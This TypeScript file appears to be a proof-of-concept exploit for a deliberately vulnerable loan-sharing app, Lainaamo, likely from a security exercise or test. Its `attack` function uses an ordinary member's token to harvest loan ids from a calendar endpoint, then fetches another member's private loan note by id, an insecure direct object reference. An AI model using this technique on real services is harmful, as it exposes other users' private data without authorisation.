/** What the attacker knows. */
export interface Target {
  /** Where Lainaamo listens, such as `http://127.0.0.1:41234`. */
  url: string;
  /** The token of an ordinary member's account: the attacker's own. */
  token: string;
  /** Somebody else has this item on loan. */
  item: string;
}

interface LeakyLoan {
  id: string;
  item: string;
  note: string;
}

/**
 * Takes from the vulnerable app what no other member may read.
 *
 * Two holes make the way in: the calendar shows the ids of loans, and a loan is given to whoever
 * knows its id.
 *
 * @returns the note on the loan of `target.item`, exactly as it stands there
 */
export async function attack({ url, token, item }: Target): Promise<string> {
  const get = async (path: string): Promise<unknown> => {
    const answer = await fetch(new URL(path, url), {
      headers: { authorization: `Bearer ${token}` },
    });
    if (!answer.ok) throw new Error(`${path} answered ${answer.status}.`);
    return answer.json();
  };
  const calendar = (await get('/calendar')) as LeakyLoan[];
  const leaked = calendar.find((entry) => entry.item === item);
  const { note } = (await get(`/loans/${leaked?.id}`)) as LeakyLoan;
  return note;
}
